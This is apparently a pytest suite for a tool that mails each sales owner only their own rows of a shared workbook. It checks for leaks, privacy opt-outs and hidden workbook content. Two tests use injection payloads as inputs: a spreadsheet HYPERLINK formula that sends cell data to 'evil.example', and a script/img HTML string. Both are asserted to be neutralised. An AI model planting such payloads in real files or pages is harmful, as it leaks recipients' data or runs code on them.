"""Nobody gets a row that is not theirs: not in a cell, a total, a name, a property or a calendar."""

import io
import warnings
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from functools import cache
from zoneinfo import ZoneInfo

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from tests.conftest import Validate
from tests.mail.made import GRIDS, LISTS, OWNERS, TELLTALES, TODAY, work
from xlsales.mail.address import Mailbox
from xlsales.mail.attachment import pages, workbook
from xlsales.mail.compose import compose
from xlsales.mail.message import Mail, draft
from xlsales.mail.people import Person
from xlsales.mail.share import for_owners
from xlsales.sheets.spec import Figures
from xlsales.tables.settings import Settings
from xlsales.texts import Language

ZONE = ZoneInfo("Europe/Amsterdam")
NOW = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)


@cache
def mail_to(owner: str | None, changes: Settings | None = None, prospects: str = "") -> Mail:
    """The mail of one owner, or of somebody who gets the whole list."""
    box = Mailbox(f"{owner or 'chef'}@shop.example".lower(), owner or "Chef")
    found = work(changes, prospects=prospects or GRIDS["prospects"])
    made = compose(found, Person(box, (owner,) if owner else None), LISTS, (), "team.xlsx", ZONE, NOW)
    assert made is not None
    return made


def everything(mail: Mail) -> Iterator[tuple[str, str]]:
    """Every text that leaves the house with a mail, with its place: both bodies, and each part of each attachment."""
    yield "subject", mail.subject
    yield "text", mail.text
    yield "html", mail.html
    for each in mail.attachments:
        if each.name.endswith(".xlsx"):
            with zipfile.ZipFile(io.BytesIO(each.data)) as package:
                for name in package.namelist():
                    yield f"{each.name}/{name}", name + package.read(name).decode("utf-8")
        else:
            yield each.name, each.data.decode().replace("\r\n ", "")
    headers = draft(mail).partition(b"\r\n\r\n")[0]
    yield "headers", headers.decode()


def opened(data: bytes) -> Workbook:
    """The attachment in openpyxl, which says that it does not know the data bars of newer Excels."""
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", ".*extension is not supported", UserWarning)
        return load_workbook(io.BytesIO(data))


@pytest.mark.parametrize("language", ["nl", "en"])
@pytest.mark.parametrize("owner", OWNERS)
def test_no_trace_of_a_colleagues_rows_leaves_with_a_mail(owner: str, language: Language) -> None:
    mail = mail_to(owner, Settings(today=TODAY, language=language))
    foreign = {sign for other, signs in TELLTALES.items() if other != owner for sign in signs}
    found = [(place, sign) for place, words in everything(mail) for sign in foreign if sign in words.lower()]
    assert not found


@pytest.mark.parametrize("owner", OWNERS)
def test_the_own_rows_are_in_the_mail(owner: str) -> None:
    words = "".join(words for _, words in everything(mail_to(owner)))
    for sign in (f"{owner}Alfa", f"{owner}Mens", f"{owner}Cadeau", TELLTALES[owner][1], TELLTALES[owner][-1]):
        assert sign in words


def test_the_telltales_would_be_seen_in_the_whole_list() -> None:
    words = "".join(words for _, words in everything(mail_to(None))).lower()
    for owner in OWNERS:
        assert not [sign for sign in TELLTALES[owner] if sign not in words]


def test_who_asked_not_to_be_contacted_stands_in_no_mail_not_even_in_the_whole_list() -> None:
    words = "".join(words for _, words in everything(mail_to(None))).lower()
    assert not [sign for sign in TELLTALES["Geheim"] if sign in words]


@pytest.mark.parametrize("owner", OWNERS)
def test_totals_and_figures_are_those_of_a_workbook_that_holds_the_own_rows_only(owner: str) -> None:
    mine = {name: _only(text, owner) for name, text in GRIDS.items()}
    alone, share = work(**mine), work()
    settings = share.settings
    figures = []
    for tables in (for_owners(share.tables, settings, [owner]), for_owners(alone.tables, settings, None)):
        sheets = pages(tables, settings, LISTS, "team.xlsx")
        strips = [block for sheet in sheets for block in sheet.blocks if isinstance(block, Figures)]
        figures.append([(each.label, each.value) for strip in strips for each in strip.figures])
    assert figures[0] == figures[1]


def _only(text: str, owner: str) -> str:
    """The lines of a grid that are of one owner, or of nobody."""
    others = [name for name in (*OWNERS, "Geheim") if name != owner]
    head, *lines = [line for line in text.splitlines() if line.strip()]
    return "\n".join([head, *(line for line in lines if not _about(line, others))])


def _about(line: str, owners: list[str]) -> bool:
    """Whether a line names one of these owners, or the ID of one of their prospects."""
    rows = [row for row in GRIDS["prospects"].splitlines() if any(owner in row for owner in owners)]
    ids = {row.split("|")[0].strip() for row in rows}
    return any(owner in line for owner in owners) or bool(ids & {cell.strip() for cell in line.split("|")})


def test_what_give_aways_brought_and_what_is_in_hand_are_told_of_the_own_items() -> None:
    found = work()
    mine = for_owners(found.tables, found.settings, ["Piet"])
    assert mine.giveaway_items["what"].tolist() == ["PietCadeau"]
    assert mine.giveaway_plan[["id", "given", "in_hand"]].to_numpy().tolist() == [["P4", "PietCadeau", ""]]


def test_a_table_that_nobody_thought_about_stands_in_no_share() -> None:
    found = work()
    tables = replace(found.tables, drift=found.tables.prospects)
    assert not len(for_owners(tables, found.settings, ["Piet"]).drift)


def test_the_share_leaves_the_tables_as_they_were() -> None:
    found = work()
    before = found.tables.prospects.copy(deep=True), found.tables.log.copy(deep=True)
    for_owners(found.tables, found.settings, ["Piet"])
    pd.testing.assert_frame_equal(found.tables.prospects, before[0])
    pd.testing.assert_frame_equal(found.tables.log, before[1])


def test_prospects_keep_the_light_and_the_reason_they_have_in_the_workbook() -> None:
    found = work()
    mine = for_owners(found.tables, found.settings, ["Piet"]).prospects
    pd.testing.assert_frame_equal(mine, found.tables.prospects.loc[mine.index])


def test_the_attachment_has_no_hidden_sheet_row_or_column_no_name_and_no_link_into_the_original() -> None:
    data = mail_to("Piet").attachments[0].data
    book = opened(data)
    assert len(book.worksheets) == len(LISTS)
    assert not book.defined_names
    for sheet in book:
        assert sheet.sheet_state == "visible"
        assert not [key for key, column in sheet.column_dimensions.items() if column.hidden]
        assert not [key for key, row in sheet.row_dimensions.items() if row.hidden]
        assert not sheet.data_validations.dataValidation
        links = [cell.hyperlink for row in sheet.iter_rows() for cell in row if cell.hyperlink]
        assert all(link.target and link.target.startswith(("mailto:", "tel:")) for link in links)
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.comment]
    assert (book.properties.creator, book.properties.title, book.properties.lastModifiedBy) == ("xlsales", None, None)


def test_the_attachment_is_a_sound_workbook(validator: Validate) -> None:
    assert not validator(mail_to("Piet").attachments[0].data)


def test_ticks_and_remarks_of_a_checklist_are_in_the_copy_but_nothing_can_be_typed_there() -> None:
    found = work()
    sheets = pages(for_owners(found.tables, found.settings, ["Piet"]), found.settings, ("checklists",), "team.xlsx")
    book = opened(workbook(sheets, found.settings))
    words = [cell.value for row in book.worksheets[0].iter_rows() for cell in row]
    assert "PietOpmerking" in words
    assert "P5/thanks/1" not in words


def test_a_formula_in_a_name_is_text_in_the_attachment() -> None:
    formula = '=HYPERLINK("http://evil.example?"&A1,"click")'
    prospects = GRIDS["prospects"].replace("PietAlfa   ", formula)
    data = mail_to("Piet", None, prospects).attachments[0].data
    cells = [cell for sheet in opened(data) for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells if cell.value == formula} == {"s"}
    assert not [cell for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert not [name for name in package.namelist() if b"<f>" in package.read(name) and "sheet" in name]


def test_markup_in_a_name_is_text_in_the_mail() -> None:
    prospects = GRIDS["prospects"].replace("PietAlfa   ", "<script>alert(1)</script><img src=x>")
    mail = mail_to("Piet", None, prospects)
    assert "<script>" not in mail.html
    assert "<img" not in mail.html
    assert "&lt;script&gt;" in mail.html
